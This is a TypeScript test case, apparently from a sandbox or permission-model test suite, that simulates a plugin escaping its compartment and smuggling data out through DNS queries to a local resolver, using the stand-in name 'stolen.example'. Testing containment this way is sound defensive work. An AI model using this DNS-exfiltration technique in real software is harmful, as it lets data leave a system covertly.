import type { Attack } from '../../attack.ts';
import { builtin, scriptDoing } from '../../scene/scripts.ts';
import { writePackage } from '../../scene/write-package.ts';
import { connected } from '../../watch/harms.ts';
import { LEAKED_MODULES, NO_PERMISSION_MODEL } from '../../weakenings.ts';

export const attack: Attack = {
  name: 'asks-a-name-server',
  aim: 'has got out of the compartment and smuggles data out in the names that it asks a name server for',
  belt: 'permission alone',
  given: LEAKED_MODULES,
  control: NO_PERMISSION_MODEL,
  build: ({ plugins, ports }) =>
    void writePackage(plugins, {
      script: scriptDoing(
        `const r = new (${builtin('dns')}.promises.Resolver)({ timeout: 200, tries: 1 }); r.setServers(['127.0.0.1:${ports.udp}']); await r.resolve4('stolen.example').catch(() => 0)`,
      ),
    }),
  harm: connected,
};
